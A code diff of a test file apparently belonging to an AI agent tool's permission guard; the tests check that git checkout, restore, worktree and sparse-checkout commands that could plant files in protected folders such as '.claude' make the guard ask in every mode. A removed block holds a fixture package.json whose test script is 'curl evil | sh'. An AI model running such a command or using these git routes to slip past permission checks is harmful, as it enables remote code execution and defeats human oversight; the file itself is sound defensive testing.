@@ -3,13 +3,11 @@
 // while every part of it is allowed by a `Bash(git …:*)` rule; the guard must ask, in every mode.
 import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
-import { cp, mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
-import os from 'node:os';
+import { cp, mkdir, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
-import { createSession, type Session } from '@toolshed/core';
-import { shellTools } from './family.ts';
+import { describe, expect, test } from 'vitest';
 import { gitRules, MODES } from './testdata/guarded_project.ts';
+import { shellDecider } from './testdata/shell_decider.ts';
 
 const RULES = [
   'Bash(rm:*)',
@@ -28,9 +26,8 @@ const RULES = [
 ];
 const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't' };
 
-let root = '';
+const { root, decide, runInCopy } = shellDecider('toolshed-worktree-attack-', RULES);
 let made = 0;
-const sessions: Session[] = [];
 
 function git(cwd: string, ...args: string[]): string {
   return execFileSync('git', ['-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8', env: GIT_ENV });
@@ -42,7 +39,7 @@ function git(cwd: string, ...args: string[]): string {
  * Made once with git and copied for each test (making it took most of each test's time).
  */
 async function repository(name: string): Promise<string> {
-  const dir = path.join(root, `${name.replaceAll(/\W+/g, '-')}-${++made}`);
+  const dir = path.join(root(), `${name.replaceAll(/\W+/g, '-')}-${++made}`);
   template ??= makeTemplate();
   await cp(await template, dir, { recursive: true, verbatimSymlinks: true });
   return dir;
@@ -51,7 +48,7 @@ async function repository(name: string): Promise<string> {
 let template: Promise<string> | undefined;
 
 async function makeTemplate(): Promise<string> {
-  const dir = path.join(root, 'template');
+  const dir = path.join(root(), 'template');
   await mkdir(path.join(dir, 'src'), { recursive: true });
   git(dir, 'init', '-q', '-b', 'main');
   await writeFile(path.join(dir, 'src', 'a.ts'), 'a\n');
@@ -71,46 +68,12 @@ async function makeTemplate(): Promise<string> {
   return dir;
 }
 
-async function decide(cwd: string, command: string, mode: (typeof MODES)[number]): Promise<string> {
-  const session = await createSession({
-    cwd,
-    families: [shellTools()],
-    permissions: { mode, allow: RULES },
-    stateDir: path.join(root, 'state', String(sessions.length)),
-  });
-  sessions.push(session);
-  return (await session.explain('Bash', { command })).behavior;
-}
-
-/** Runs the command in a copy of the repository: the copy. */
-async function run(dir: string, command: string): Promise<string> {
-  const copy = `${dir}-run`;
-  await rm(copy, { recursive: true, force: true });
-  await cp(dir, copy, { recursive: true, verbatimSymlinks: true });
-  try {
-    execFileSync('bash', ['-c', command], { cwd: copy, env: GIT_ENV, stdio: 'ignore', timeout: 10_000 });
-  } catch {
-    // What it wrote before failing is what counts.
-  }
-  return copy;
-}
-
 /** The command writes `file` (or removes it, with `removed`) with real git, and the guard asks in every mode. */
 async function expectAsks(dir: string, command: string, file: string, removed = false): Promise<void> {
-  const copy = await run(dir, command);
+  const copy = await runInCopy(dir, command, GIT_ENV);
   expect(existsSync(path.join(copy, file)), `${command} ${removed ? 'removes' : 'writes'} ${file}`).toBe(!removed);
   for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('ask');
 }
-
-beforeAll(async () => {
-  root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'toolshed-worktree-attack-')));
-});
-afterEach(async () => {
-  await Promise.all(sessions.splice(0).map((s) => s.close()));
-});
-afterAll(async () => {
-  await rm(root, { recursive: true, force: true });
-});
 
 describe('a folder pathspec the index has below a protected file', () => {
   test.each([
@@ -186,27 +149,6 @@ describe('a pathspec taken from a commit that is no folder in the work tree', ()
   });
 });
 
-describe('a pathspec taken from a commit that is no folder in the work tree', () => {
-  test.each([
-    'git checkout evil -- conf',
-    'git checkout evil conf',
-    'git restore --source evil conf',
-    'git checkout folder -- src/a.ts',
-    'git restore -s folder src/a.ts',
-  ])('%s asks: the commit may hold a folder there', async (command) => {
-    const dir = await repository(`commit-${command.replaceAll(/\W/g, '')}`);
-    // Branch `folder` has src/a.ts as a folder holding a package.json.
-    git(dir, 'checkout', '-qb', 'folder');
-    git(dir, 'rm', '-q', 'src/a.ts');
-    await mkdir(path.join(dir, 'src', 'a.ts'), { recursive: true });
-    await writeFile(path.join(dir, 'src', 'a.ts', 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
-    git(dir, 'add', '-A');
-    git(dir, 'commit', '-qm', 'folder');
-    git(dir, 'checkout', '-q', 'main');
-    await expectAsks(dir, command, command.includes('a.ts') ? 'src/a.ts/package.json' : 'conf/package.json');
-  });
-});
-
 describe('git commands that write a folder from a commit or the index, unseen', () => {
   test.each(['git checkout -p evil < answers', 'git checkout --patch evil < answers'])(
     '%s writes what the commit has, everywhere: it asks',
@@ -231,7 +173,7 @@ describe('git commands that write a folder from a commit or the index, unseen', 
   test('git worktree add writes the folder it names: into a protected folder it asks; outside the project, in default mode', async () => {
     const dir = await repository('worktree');
     await expectAsks(dir, 'git worktree add .claude evil', '.claude/conf/package.json');
-    expect(await decide(dir, `git worktree add ${root}/elsewhere evil`, 'default')).toBe('ask');
+    expect(await decide(dir, `git worktree add ${root()}/elsewhere evil`, 'default')).toBe('ask');
   });
 
   test('git sparse-checkout add brings back what the index holds below a folder: it asks', async () => {
